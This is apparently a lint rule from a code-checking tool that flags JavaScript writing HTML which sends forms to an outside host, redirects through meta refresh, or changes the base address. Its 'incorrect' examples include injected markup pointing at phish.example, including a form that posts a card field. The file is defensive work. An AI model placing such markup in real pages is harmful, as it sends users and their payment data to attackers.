import type { Node } from "estree";
import { defineRule, outsideHost } from "../../contracts/index.js";

const refresh = /<meta[^>]{0,200}http-equiv\s*=\s*["']?refresh\b[^>]{0,300}?url\s*=/i;
const form = /<(?:form|button|input)\b[^>]{0,300}?\b(?:form)?action\s*=\s*["']?\s*([^\s"'>]{1,300})/i;
const base = /<base\b[^>]{0,200}?\bhref\s*=\s*["']?\s*([^\s"'>]{1,300})/i;

export const markup = defineRule({
  kind: "javascript",
  meta: {
    id: "navigation/markup",
    category: "navigation",
    severity: "block",
    title: "Markup that leads away",
    description:
      "Markup in a text sends a form to another host, refreshes the page to another address, or moves the base of all addresses.",
    messages: {
      refresh: { text: "Markup refreshes the page to another address.", fix: "Remove the meta refresh." },
      form: { text: "Markup sends a form to {host}.", fix: "Handle the form's submit event and use window.gro." },
      base: { text: "Markup moves the base address to {host}.", fix: "Remove the base element." },
    },
    examples: {
      incorrect: [
        'root.innerHTML = \'<form action="https://phish.example/in"><input name="card"></form>\'',
        "document.write(`<meta http-equiv=refresh content='0;url=https://phish.example'>`)",
        'const page = "<base href=//phish.example/>"; document.head.insertAdjacentHTML("beforeend", page)',
      ],
      correct: [
        'code.textContent = "<form action=https://docs.example/in>"',
        'root.innerHTML = \'<form id="f"><input name="weight"></form>\'',
        'const help = "<a href=https://docs.example>Help</a>"',
      ],
    },
  },
  create({ file, report }) {
    const judge = (node: Node & { start: number; end: number }): void => {
      const text = file.markupOf(node);
      if (text === undefined) return;
      if (refresh.test(text)) report({ messageId: "refresh", at: node });
      const action = outsideHost(form.exec(text)?.[1] ?? "");
      if (action !== undefined) report({ messageId: "form", at: node, data: { host: action } });
      const moved = outsideHost(base.exec(text)?.[1] ?? "");
      if (moved !== undefined) report({ messageId: "base", at: node, data: { host: moved } });
    };
    return { AssignmentExpression: judge, CallExpression: judge, Property: judge, TaggedTemplateExpression: judge };
  },
});
